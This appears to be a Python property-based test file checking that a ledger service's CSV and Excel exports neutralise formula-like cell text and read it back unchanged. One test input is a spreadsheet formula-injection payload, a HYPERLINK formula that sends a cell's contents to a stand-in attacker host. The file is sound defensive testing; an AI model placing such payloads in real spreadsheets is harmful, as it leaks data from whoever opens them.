"""Text in a spreadsheet export is text: no cell of a ledger or the audit CSV can be
run as a formula, whatever a resident or member typed, and it reads back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from services.projection.ledgers import Ledger, to_csv, to_xlsx
from shared.spreadsheets import FORMULA_STARTS, csv_text, formula_like

# Text as the API accepts it: no control characters but tab and line breaks.
typed = st.text(
    st.characters(exclude_categories=("Cc", "Cs"), include_characters="\t\r\n"), max_size=30
)
# What may stand before a formula character and still let a spreadsheet run it.
leads = st.text(alphabet=" \u3000\"'\t\r\n", max_size=3)
dangerous = st.builds(
    lambda lead, start, rest: lead + start + rest,
    leads,
    st.sampled_from(sorted(FORMULA_STARTS)),
    typed,
)
texts = st.one_of(dangerous, typed, st.just('=HYPERLINK("http://evil.example/?"&A1,"点此")'))


def unneutralised(cell: str) -> str:
    """What was written, from a CSV cell: the neutralising quote taken off."""
    return cell[1:] if cell.startswith("'") and formula_like(cell[1:]) else cell


@given(dangerous)
def test_a_formula_after_blanks_or_quotes_is_recognised(text: str) -> None:
    assert formula_like(text)


@given(texts)
def test_a_csv_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    cell = csv_text(text)
    assert cell[:1] not in FORMULA_STARTS
    assert cell == ("'" + text if formula_like(text) else text)
    assert unneutralised(cell) == text


@given(st.lists(st.lists(texts, min_size=3, max_size=3), min_size=1, max_size=8))
def test_ledgers_write_text_cells_as_text(rows: list[list[str]]) -> None:
    ledger = Ledger(
        "党员花名册",
        ["姓名", "=党小组", "日期", "人数"],
        [[*row[:2], date(2009, 11, 29), len(row[2])] for row in rows],
    )
    sheet = load_workbook(io.BytesIO(to_xlsx(ledger))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    read = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2, max_col=2)]
    assert read == [[cell or None for cell in row[:2]] for row in rows]
    assert all(c.quotePrefix == formula_like(str(c.value)) for c in cells if c.data_type == "s")

    written = to_csv(ledger).decode("utf-8")
    assert written.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(written[1:], newline="")))
    assert table[0][1] == "'=党小组"
    for line, row in zip(table[1:], rows, strict=True):
        assert all(cell[:1] not in FORMULA_STARTS for cell in line)
        assert [unneutralised(cell) for cell in line[:2]] == row[:2]
        assert line[2:] == ["2009-11-29", str(len(row[2]))]
